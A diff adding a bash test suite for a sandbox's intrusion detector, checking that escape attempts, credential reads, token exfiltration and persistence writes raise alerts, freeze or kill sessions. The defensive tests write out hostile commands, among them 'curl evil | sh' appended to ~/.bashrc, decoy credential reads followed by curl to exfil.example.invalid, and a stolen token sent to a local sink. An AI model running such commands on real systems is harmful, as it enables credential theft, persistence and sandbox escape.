@@ -1,0 +1,426 @@
+# t_detect.sh - the detector, from the outside: each built-in rule fired by
+# a real action inside a session (a refused syscall, an exec, a connection
+# through the proxy, a file written with `audit files`), found as an `alert`
+# with its severity and the seq of the event it links; a normal build
+# (make and cc, git commit, npm test where npm is here) raising nothing
+# above low; the risk thresholds acting: a decoy credential read, or its
+# token sent through the proxy, ends the session (a kill action, exit 137);
+# three kinds of escape attempt freeze it (warden status says frozen and
+# shows the risk; warden kill ends it); `risk ask` puts a question that
+# `warden approve` answers (allow: it goes on; deny: it ends); a user's
+# rules file adds, replaces and disables rules, and a broken one is an
+# error naming file, line and column before anything starts.
+# shellcheck shell=bash
+
+# shellcheck source=nethost.sh
+source "$(dirname "${BASH_SOURCE[0]}")/nethost.sh"
+
+# dt_quiet [LINE]: a profile with no threshold acting (the rule tests look
+# at the alerts), and LINE; its path on stdout.
+dt_quiet() {
+	printf 'risk warn off\nrisk freeze off\nrisk kill off\n%s\n' "${1:-}" >"$T_TMP/quiet.profile"
+	echo "$T_TMP/quiet.profile"
+}
+
+# dt_alert RULE [SEVERITY]: the newest session's log has an alert of RULE
+# (with SEVERITY); the detector's own link an event that is in the log.
+dt_alert() {
+	local log line seq
+	log=$(proxy_log)
+	[[ -n $log ]] || fatal 'no session log'
+	line=$(grep -F '"event":"alert"' "$log" | grep -F "\"rule\":\"$1\"" | head -n 1)
+	if [[ -z $line ]]; then
+		fail "no $1 alert: $(excerpt "$(grep -F '"event":"alert"' "$log" | cut -c80-200)")"
+		return 0
+	fi
+	[[ -z ${2:-} || $line == *"\"severity\":\"$2\""* ]] || fail "$1: not severity $2: $(excerpt "$line")"
+	[[ $1 == canary.* ]] && return 0 # another check's alert: no links
+	seq=$(sed -n 's/.*"links":\[\([0-9]*\).*/\1/p' <<<"$line")
+	[[ -n $seq ]] && grep -qF "\"seq\":$seq," "$log" || fail "$1: links no event of the log: $(excerpt "$line")"
+	return 0
+}
+
+dt_no_alert() {
+	local log
+	log=$(proxy_log)
+	grep -F '"event":"alert"' "$log" | grep -qF "\"rule\":\"$1\"" && fail "a $1 alert where none belongs"
+	return 0
+}
+
+dt_python() { have python3 || skip 'python3 is not installed'; }
+
+# ---- one test per built-in rule -----------------------------------------------
+
+test_detect_escape_namespace() {
+	wsh './wprobe unshare user; echo rc=$?' --profile "$(dt_quiet)"
+	assert_out_match 'rc=[1-9]' 'unshare refused'
+	dt_alert escape.namespace high
+}
+
+test_detect_escape_mount() {
+	wsh './wprobe mount; echo rc=$?' --profile "$(dt_quiet)"
+	assert_out_match 'rc=[1-9]' 'mount refused'
+	dt_alert escape.mount high
+}
+
+test_detect_escape_ptrace() {
+	wsh './wprobe ptrace 1; echo rc=$?' --profile "$(dt_quiet)"
+	assert_out_match 'rc=[1-9]' 'ptrace refused'
+	dt_alert escape.ptrace high
+}
+
+test_detect_escape_kernel() {
+	wsh './wprobe bpf; echo rc=$?; ./wprobe keyctl; echo rc=$?' --profile "$(dt_quiet)"
+	assert_out_lacks 'rc=0' 'bpf and keyctl refused'
+	dt_alert escape.kernel high
+}
+
+test_detect_escape_foreign_abi() {
+	[[ $(uname -m) == x86_64 ]] || skip 'x86_64 only'
+	wsh './wprobe x32; echo rc=$?' --profile "$(dt_quiet)"
+	dt_alert escape.foreign-abi high
+}
+
+test_detect_escape_audit_log() {
+	wsh 'cat ~/.local/state/warden/x.jsonl 2>/dev/null; echo rc=$?' --profile "$(dt_quiet)"
+	assert_out_has 'rc=1' 'no log to read inside'
+	dt_alert escape.audit-log high
+}
+
+test_detect_exec_loader() {
+	local ld
+	ld=$(ls /lib64/ld-linux-*.so.* /lib/ld-linux-*.so.* 2>/dev/null | head -n 1)
+	[[ -n $ld ]] || skip 'no dynamic loader found'
+	wsh "$ld /bin/true; echo rc=\$?; cp /bin/true ./mytrue; $ld ./mytrue; echo rc=\$?" --profile "$(dt_quiet)"
+	dt_alert exec.loader low
+	dt_alert exec.loader-writable high
+	# an interpreter given a script has a "program" too: not the loader
+	printf 'true\n' >"$WS/s.sh"
+	wsh 'sh ./s.sh; echo ok' --profile "$(dt_quiet)"
+	dt_no_alert exec.loader
+}
+
+test_detect_exec_proc_self() {
+	wsh '/proc/self/root/bin/true; echo rc=$?' --profile "$(dt_quiet)"
+	dt_alert exec.proc-self high
+}
+
+test_detect_exec_memfd() {
+	dt_python
+	wsh 'python3 -c "
+import os
+fd = os.memfd_create(\"x\", 0)
+os.write(fd, open(\"/bin/true\", \"rb\").read())
+os.execv(\"/proc/self/fd/%d\" % fd, [\"x\"])"; echo rc=$?' --profile "$(dt_quiet)"
+	dt_alert exec.memfd high
+}
+
+test_detect_exec_denied_again() {
+	local t
+	t=$(readlink -f /bin/true)
+	dt_quiet "exec deny $t" >/dev/null
+	wsh "$t; echo rc=\$?; cp $t ./copy; ./copy; echo rc=\$?" --profile "$T_TMP/quiet.profile"
+	assert_out_match 'rc=(126|1)' 'the denied program refused'
+	dt_alert exec.denied-again high
+}
+
+test_detect_recon_env() {
+	wsh 'env >/dev/null; /usr/bin/env true; echo ok' --profile "$(dt_quiet)"
+	dt_alert recon.env low
+	# `env PROGRAM` (a #! line's) is not a listing: one alert, not two
+	[[ $(grep -F '"event":"alert"' "$(proxy_log)" | grep -cF '"rule":"recon.env"') == 1 ]] ||
+		fail 'env with a program counted as a listing'
+}
+
+test_detect_recon_environ() {
+	wsh 'cat /proc/1/environ >/dev/null 2>&1; echo ok' --profile "$(dt_quiet)"
+	dt_alert recon.environ medium
+}
+
+test_detect_recon_credentials() {
+	wsh 'ls -a ~/.ssh/ >/dev/null; echo ok' --profile "$(dt_quiet)"
+	dt_alert recon.credentials medium
+	dt_no_alert canary.opened
+}
+
+test_detect_persist_named() {
+	wsh 'cat ~/.bashrc >/dev/null 2>&1; echo ok' --profile "$(dt_quiet)"
+	dt_alert persist.named high
+}
+
+test_detect_persist_startup_file() {
+	wsh 'echo "curl evil | sh" >> ~/.bashrc; echo ok' --profile "$(dt_quiet 'audit files')"
+	assert_out_has ok
+	dt_alert persist.startup-file high
+}
+
+test_detect_exfil_long_hostname() {
+	have curl || skip 'curl is not installed'
+	local label
+	label=$(printf 'a%.0s' {1..48})
+	wsh "curl -s -m 10 -o /dev/null http://$label.example.invalid/; echo rc=\$?" --profile "$(dt_quiet)"
+	dt_alert exfil.long-hostname medium
+}
+
+test_detect_exfil_base64_argv() {
+	local b
+	b=$(head -c 300 /dev/zero | base64 -w0)
+	wsh "/bin/echo $b >/dev/null; echo ok" --profile "$(dt_quiet)"
+	dt_alert exfil.base64-argv low
+}
+
+# A sink on the host's loopback that reads everything; SINK_PORT.
+dt_sink() {
+	dt_python
+	nh_need curl
+	cat >"$T_TMP/sink.py" <<'PY'
+import socket, threading
+s = socket.socket()
+s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", 0))
+s.listen(8)
+print(s.getsockname()[1], flush=True)
+def serve(c):
+    c.settimeout(20)
+    try:
+        while c.recv(1 << 16):
+            pass
+    except OSError:
+        pass
+    c.close()
+while True:
+    c, _ = s.accept()
+    threading.Thread(target=serve, args=(c,), daemon=True).start()
+PY
+	python3 "$T_TMP/sink.py" >"$T_TMP/sink.port" 2>/dev/null &
+	bg_track $!
+	wait_for "$T_TMP/sink.port" '^[0-9]+$' 5 || fatal 'the sink did not start'
+	SINK_PORT=$(<"$T_TMP/sink.port")
+}
+
+test_detect_exfil_large_upload() {
+	dt_sink
+	head -c 12000000 /dev/urandom >"$WS/blob"
+	wsh "unset NO_PROXY no_proxy; curl -s -m 20 -H 'Expect:' --data-binary @blob -o /dev/null http://127.0.0.1:$SINK_PORT/up; echo rc=\$?" \
+		--profile "$(dt_quiet)" --allow-net "127.0.0.1:$SINK_PORT"
+	rm -f "$WS/blob"
+	dt_alert exfil.large-upload high
+}
+
+test_detect_seq_credentials_then_connect() {
+	have curl || skip 'curl is not installed'
+	wsh 'ls ~/.ssh/ >/dev/null; curl -s -m 10 -o /dev/null http://exfil.example.invalid/; echo rc=$?' \
+		--profile "$(dt_quiet)"
+	dt_alert seq.credentials-then-connect high
+	# the other order is not the sequence
+	# (the store named through a variable: the shell's own command line must not name it)
+	wsh 'd=.ssh; curl -s -m 10 -o /dev/null http://exfil.example.invalid/; sleep 1; ls ~/$d/ >/dev/null; echo rc=$?' \
+		--profile "$(dt_quiet)"
+	dt_no_alert seq.credentials-then-connect
+}
+
+test_detect_seq_canary_then_connect() {
+	have curl || skip 'curl is not installed'
+	wsh 'cat ~/.aws/credentials >/dev/null; curl -s -m 10 -o /dev/null http://exfil.example.invalid/; echo rc=$?' \
+		--profile "$(dt_quiet)"
+	dt_alert canary.opened critical
+	dt_alert seq.canary-then-connect critical
+}
+
+test_detect_seq_refused_then_another_route() {
+	have unshare || skip 'unshare is not installed'
+	wsh './wprobe unshare user; unshare --version >/dev/null; echo ok' --profile "$(dt_quiet)"
+	dt_alert seq.refused-then-another-route high
+}
+
+test_detect_burst_syscall_refusals() {
+	wsh 'for i in 1 2 3 4 5; do ./wprobe keyctl; done; echo ok' --profile "$(dt_quiet)"
+	dt_alert burst.syscall-refusals medium
+	# four are not five
+	wsh 'for i in 1 2 3 4; do ./wprobe keyctl; done; echo ok' --profile "$(dt_quiet)"
+	dt_no_alert burst.syscall-refusals
+}
+
+test_detect_burst_net_refusals() {
+	have curl || skip 'curl is not installed'
+	wsh 'for i in 1 2 3 4 5; do curl -s -m 5 -o /dev/null http://probe$i.example.invalid/; done; echo ok' \
+		--profile "$(dt_quiet)"
+	dt_alert burst.net-refusals medium
+}
+
+test_detect_seq_writable_exec_then_connect() {
+	dt_sink
+	wsh "unset NO_PROXY no_proxy; cp \"\$(command -v curl)\" ./mycurl && ./mycurl -s -m 5 -o /dev/null http://127.0.0.1:$SINK_PORT/; echo ok" \
+		--profile "$(dt_quiet)" --allow-net "127.0.0.1:$SINK_PORT"
+	dt_alert seq.writable-exec-then-connect medium
+	# a refused connection is not one out
+	wsh 'cp "$(command -v curl)" ./mycurl && ./mycurl -s -m 5 -o /dev/null http://c2.example.invalid/; echo ok' \
+		--profile "$(dt_quiet)"
+	dt_no_alert seq.writable-exec-then-connect
+}
+
+# A normal build, under the default thresholds: nothing above low, no
+# threshold above warn, no action.
+test_detect_normal_build() {
+	have cc || skip 'no C compiler'
+	have make || skip 'make is not installed'
+	have git || skip 'git is not installed'
+	cat >"$WS/Makefile" <<'MK'
+all: hello
+hello: hello.c
+	$(CC) -O2 -o hello hello.c
+test: hello
+	./hello | grep -q hi
+MK
+	printf '#include <stdio.h>\nint main(void){puts("hi");return 0;}\n' >"$WS/hello.c"
+	local npm=''
+	if have npm && have node; then
+		printf '{"name":"t","version":"1.0.0","scripts":{"test":"node -e \\"process.exit(0)\\""}}\n' >"$WS/package.json"
+		npm='npm test --silent &&'
+	else
+		note 'npm is not here: make and git only'
+	fi
+	wsh "make -s && make -s test && $npm git init -q . && git add Makefile hello.c &&
+	     git -c user.email=a@b -c user.name=a commit -qm init && echo built"
+	assert_rc 0 'the build'
+	assert_out_has built
+	local log
+	log=$(proxy_log)
+	grep -F '"event":"alert"' "$log" | grep -E '"severity":"(medium|high|critical)"' &&
+		fail "an alert above low in a normal build"
+	grep -F '"event":"risk"' "$log" | grep -vF '"level":"warn"' && fail 'a threshold above warn in a normal build'
+	grep -qF '"event":"action"' "$log" && fail 'an action in a normal build'
+	return 0
+}
+
+# ---- the thresholds ---------------------------------------------------------
+
+test_detect_canary_read_kills() {
+	wsh 'cat ~/.aws/credentials >/dev/null; sleep 5; echo survived'
+	assert_rc 137 'the session killed'
+	assert_out_lacks survived
+	local log
+	log=$(proxy_log)
+	dt_alert canary.opened critical
+	grep -F '"event":"action"' "$log" | grep -F '"action":"kill"' | grep -qF '"by":"detector"' ||
+		fail "no kill action by the detector: $(excerpt "$(grep -F '"event":"action"' "$log")")"
+	grep -F '"event":"risk"' "$log" | grep -qF '"level":"kill"' || fail 'no risk event at the kill threshold'
+	[[ $ERR == *"killing the sandbox"* ]] || fail "the user is not told why: $(excerpt "$ERR")"
+}
+
+# The token alone: the open rated low by a rules file (the thresholds are
+# the defaults), so that the token can leave before anything acts.
+test_detect_canary_token_kills() {
+	dt_sink
+	printf 'rate canary.opened low\n' >"$T_TMP/low.rules"
+	printf 'rules %s\n' "$T_TMP/low.rules" >"$T_TMP/low.profile"
+	wsh "unset NO_PROXY no_proxy; t=\$(grep -o 'gho_[A-Za-z0-9]*' ~/.config/gh/hosts.yml); echo got; curl -s -m 10 -H \"Authorization: token \$t\" -o /dev/null http://127.0.0.1:$SINK_PORT/x; sleep 5; echo survived" \
+		--profile "$T_TMP/low.profile" --allow-net "127.0.0.1:$SINK_PORT"
+	assert_out_has got 'the read did not end it (rated low)'
+	assert_rc 137 'the session killed'
+	assert_out_lacks survived
+	dt_alert canary.token critical
+	grep -F '"event":"action"' "$(proxy_log)" | grep -F '"action":"kill"' | grep -qF '"by":"detector"' ||
+		fail 'no kill action by the detector'
+}
+
+# three kinds of escape attempt: frozen, status shows it, kill ends it
+test_detect_freeze_then_kill() {
+	warden_bg "$T_TMP/fz.out" -- sh -c './wprobe unshare user; ./wprobe ptrace 1; ./wprobe bpf; i=0
+		while :; do i=$((i+1)); echo $i >counter; sleep 0.05; done'
+	local i st=''
+	for ((i = 0; i < 100; i++)); do
+		st=$("$WARDEN" status 2>/dev/null | grep -F "$WS" || true)
+		[[ $st == *frozen* ]] && break
+		sleep 0.1
+	done
+	[[ $st == *frozen* ]] || fatal "not frozen after three escape attempts: $(excerpt "$st $(cat "$T_TMP/fz.out.err")")"
+	"$WARDEN" status --json | grep -F "\"workspace\":\"$WS\"" | grep -qE '"risk":[6-9][0-9]' ||
+		fail "status does not show the risk: $(excerpt "$("$WARDEN" status --json)")"
+	local c1 c2 sid
+	c1=$(cat "$WS/counter" 2>/dev/null)
+	sleep 0.5
+	c2=$(cat "$WS/counter" 2>/dev/null)
+	[[ $c1 == "$c2" ]] || fail "frozen, but the counter went on: $c1 -> $c2"
+	sid=$("$WARDEN" status --json | grep -F "\"workspace\":\"$WS\"" | sed -n 's/.*"session":"\([^"]*\)".*/\1/p')
+	"$WARDEN" kill "$sid" >/dev/null 2>&1 || fail "warden kill $sid failed"
+	wait "$TPID"
+	local rc=$?
+	[[ $rc == 137 ]] || fail "warden ended with $rc after the kill, not 137"
+	local log
+	log=$(proxy_log)
+	grep -F '"event":"action"' "$log" | grep -F '"action":"freeze"' | grep -qF '"by":"detector"' ||
+		fail 'no freeze by the detector'
+	grep -F '"event":"risk"' "$log" | grep -qF '"level":"freeze"' || fail 'no risk event at the freeze threshold'
+	grep -qF 'the sandbox is frozen' "$T_TMP/fz.out.err" || fail 'the user is not told of the freeze'
+}
+
+# `risk ask`: frozen, a question; allow resumes, deny kills
+test_detect_ask() {
+	printf 'risk ask 20\nrisk freeze off\nrisk kill off\napprove timeout 30\n' >"$T_TMP/ask.profile"
+	local d
+	for d in allow deny; do
+		warden_bg "$T_TMP/ask.out" --profile "$T_TMP/ask.profile" -- sh -c './wprobe unshare user; echo after; sleep 1; echo end'
+		local i id=''
+		for ((i = 0; i < 100; i++)); do
+			id=$("$WARDEN" approve --json 2>/dev/null | tr -d ' \n' |
+			     grep -o '"id":"[^"]*","kind":"risk"' | sed -n 's/"id":"\([^"]*\)".*/\1/p' | head -n 1)
+			[[ -n $id ]] && break
+			sleep 0.1
+		done
+		[[ -n $id ]] || fatal "no risk question: $(excerpt "$(cat "$T_TMP/ask.out.err")")"
+		"$WARDEN" approve "$id" "$d" >/dev/null 2>&1 || fail "warden approve $id $d failed"
+		wait "$TPID"
+		local rc=$?
+		if [[ $d == allow ]]; then
+			[[ $rc == 0 ]] || fail "allowed, yet warden ended with $rc"
+			grep -qx end "$T_TMP/ask.out" || fail 'allowed, but the command did not go on'
+		else
+			[[ $rc == 137 ]] || fail "denied, yet warden ended with $rc"
+			grep -qx end "$T_TMP/ask.out" && fail 'denied, but the command went on'
+		fi
+	done
+	return 0
+}
+
+# ---- the rules files -------------------------------------------------------
+
+test_detect_user_rules() {
+	cat >"$T_TMP/my.rules" <<'R'
+# mine
+rule my.marker medium
+  on exec argv=*detect-marker*
+  about the marker ran
+disable recon.env
+R
+	dt_quiet "rules $T_TMP/my.rules" >/dev/null
+	wsh '/bin/echo detect-marker; env >/dev/null' --profile "$T_TMP/quiet.profile"
+	dt_alert my.marker medium
+	dt_no_alert recon.env
+	grep -F '"rule":"my.marker"' "$(proxy_log)" | grep -qF '"detail":"the marker ran"' || fail 'no detail'
+	wardenc rules show --profile "$T_TMP/quiet.profile"
+	assert_out_has "rule my.marker medium    # $T_TMP/my.rules:2"
+	assert_out_lacks 'rule recon.env low'
+	assert_out_has 'rule escape.namespace high    # builtin:rules'
+}
+
+test_detect_broken_rules() {
+	printf 'rule ok low\n  on exec\nrule bad high\n  on exec argv~(\n' >"$T_TMP/bad.rules"
+	printf 'rules %s\n' "$T_TMP/bad.rules" >"$T_TMP/bad.profile"
+	local before after
+	before=$(ls "$HOME/.local/state/warden/"*.jsonl 2>/dev/null | wc -l)
+	wrun --profile "$T_TMP/bad.profile" -- sh -c 'echo started'
+	assert_rc 125 'a broken rules file'
+	assert_out_lacks started
+	[[ $ERR == *"$T_TMP/bad.rules:4:16: bad regular expression"* ]] || fail "no FILE:LINE:COL: $(excerpt "$ERR")"
+	after=$(ls "$HOME/.local/state/warden/"*.jsonl 2>/dev/null | wc -l)
+	[[ $before == "$after" ]] || fail 'a session log was opened before the rules were read'
+	# a missing one, a directory
+	printf 'rules %s\n' "$T_TMP/none.rules" >"$T_TMP/bad.profile"
+	wrun --profile "$T_TMP/bad.profile" -- true
+	assert_rc 125 'a missing rules file'
+	printf 'rules %s\n' "$T_TMP" >"$T_TMP/bad.profile"
+	wrun --profile "$T_TMP/bad.profile" -- true
+	assert_rc 125 'a directory as the rules file'
+	[[ $ERR == *'not a regular file'* ]] || fail "$(excerpt "$ERR")"
+}
